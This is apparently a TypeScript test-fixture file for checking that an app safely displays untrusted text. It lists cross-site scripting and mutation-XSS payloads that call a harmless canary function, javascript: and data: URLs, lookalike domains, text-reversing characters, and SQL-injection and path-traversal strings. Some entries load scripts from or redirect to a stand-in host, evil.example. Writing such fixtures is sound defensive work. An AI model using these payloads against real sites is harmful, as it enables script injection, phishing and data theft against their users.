/**
 * Texts by which a stranger may try to do harm. Every place that shows texts of strangers is tested with this list.
 *
 * Scripts in the texts call `canary`. Elements in them have the attribute `data-hostile`, so that a test detects texts
 * that became markup.
 */

/** Markup that browsers have run: directly, inside other markup, and after a second parse. */
export const MARKUP: readonly string[] = [
  '<script data-hostile>canary()</script>',
  '<ScRiPt data-hostile src=//evil.example/x.js></sCrIpT>',
  '<img data-hostile src=x onerror=canary()>',
  '<img data-hostile src="x:x" onerror="canary()"',
  '<svg data-hostile onload=canary()>',
  '<svg data-hostile><animate onbegin=canary() attributeName=x dur=1s></svg>',
  '<svg data-hostile><use href="data:image/svg+xml,<svg id=x onload=canary()>#x"/></svg>',
  '<style data-hostile>*{display:none!important}</style>',
  '<link data-hostile rel=stylesheet href=//evil.example/x.css>',
  '<iframe data-hostile srcdoc="<script>parent.canary()</script>"></iframe>',
  '<iframe data-hostile src="javascript:parent.canary()"></iframe>',
  '<template data-hostile><img src=x onerror=canary()></template>',
  '<object data-hostile data="javascript:canary()"></object><embed data-hostile src="javascript:canary()">',
  '<base data-hostile href="https://evil.example/">',
  '<meta data-hostile http-equiv=refresh content="0;url=https://evil.example/">',
  '<form data-hostile action="javascript:canary()"><button data-hostile autofocus>Send</button></form>',
  '<input data-hostile autofocus onfocus=canary()>',
  '<details data-hostile open ontoggle=canary()>x</details>',
  '<video data-hostile><source onerror=canary()></video>',
  '<a data-hostile href="jav&#x09;ascript:canary()">press</a>',
  '<math><mtext><table><mglyph><style><!--</style><img data-hostile title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<noscript><p title="</noscript><img data-hostile src=x onerror=canary()>">',
  '<svg></p><style><a id="</style><img data-hostile src=x onerror=canary()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img data-hostile src onerror=canary()>',
  '</textarea></title></style></script><img data-hostile src=x onerror=canary()>',
  '"><img data-hostile src=x onerror=canary()><"',
  "' onmouseover='canary()' autofocus x='",
  '<!--><img data-hostile src=x onerror=canary()>-->',
  ']]><script data-hostile>canary()</script>',
  '&lt;img data-hostile src=x onerror=canary()&gt;',
  '%3Cimg%20data-hostile%20src=x%20onerror=canary()%3E',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as templates write it
  '{{constructor.constructor("canary()")()}} ${canary()} #{canary()}',
];

/** Addresses that must not become links. */
export const ADDRESSES: readonly string[] = [
  'javascript:canary()',
  'JaVaScRiPt:canary()//example.com',
  'javascript://example.com/%0acanary()',
  'java\tscript:canary()//example.com',
  'java\nscript:canary()//example.com',
  '\u0001javascript:canary()//example.com',
  'java\u0000script:canary()//example.com',
  '&#106;avascript:canary()//example.com',
  'javascript&colon;canary()//example.com',
  'data:text/html,<script>canary()</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"/>',
  'vbscript:canary()',
  'view-source:javascript:canary()',
  'file:///etc/passwd',
  'blob:https://example.com/0',
  'filesystem:https://example.com/temporary/x.html',
  'intent://example.com#Intent;scheme=javascript;end',
  'ws://example.com',
  'https://bank.example.com@evil.example.com',
  'https://bank.example.com:443@evil.example.com/',
];

/** Addresses that look like another address, or hide their target. */
export const LOOKALIKES: readonly string[] = [
  'https://аpple.com/sign-in',
  'https://exаmple.com',
  'https://example.com.evil.example.com',
  'https://example.com\u200b.evil.example.com',
  'https://example.com/\u202egpj.exe',
  'https://example.com⁄evil.example.com',
  'https://ⓔⓥⓘⓛ.example.com',
  'mailto:ada@example.com?bcc=evil@example.com',
  'ada@exаmple.com',
];

/** A letter with many combining marks. */
const tower = (letter: string, marks: number): string =>
  letter + Array.from({ length: marks }, (_, place) => String.fromCharCode(0x300 + (place % 0x70))).join('');

/** Characters that reverse or hide text, or cannot be drawn. */
export const SIGNS: readonly string[] = [
  '\u202eretteb si siht\u202c but this is not',
  '\u202enever closed',
  '\u202dforced and never closed',
  '\u2066\u2067\u2068\u202b opened and never closed',
  '\u2069\u2069\u202c\u202c closed and never opened',
  'photo\u202egnp.exe',
  '\u200fשלום\u200e and مرحبا in one',
  'pay\u200bpal\u200c is\u200d not\ufeff\u2060',
  'tags\u{e0041}\u{e0042}\u{e007f} and selectors\ufe0f\ufe0e',
  'a lone \ud83d first half',
  'a lone \ude00 second half',
  'nothing\u0000after',
  'bell\u0007 back\u0008 escape\u001b[31m\u001b]0;title\u0007 end\u009c',
  'line\u2028paragraph\u2029feed\u000cvertical\u000btab\tend',
  'no characters \ufffe\uffff\u{10ffff}',
  `${tower('Z', 120)}${tower('a', 120)}${tower('l', 120)}${tower('go', 120)}`,
  '\u0c1c\u0c4d\u0c1e\u200c\u0c3e \u0627\u0644\u0644\u0651\u0670\u0647',
  '﷽'.repeat(60),
  `${'👨‍👩‍👧‍👦'.repeat(12)}${'\u200d👨'.repeat(60)}`,
  'W'.repeat(1_200),
];

/** Words with a special meaning in careless programs. */
export const NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  "Robert'); DROP TABLE chats;--",
  '%s%n%x {0} {count} $& $1 \\u003c',
  '../../etc/passwd',
];

export const HOSTILE: readonly string[] = [...MARKUP, ...ADDRESSES, ...LOOKALIKES, ...SIGNS, ...NAMES];

/** Writes a text for the message of a failed test. Invisible characters become visible. */
export const spelled = (text: string): string => JSON.stringify(text).slice(0, 80);
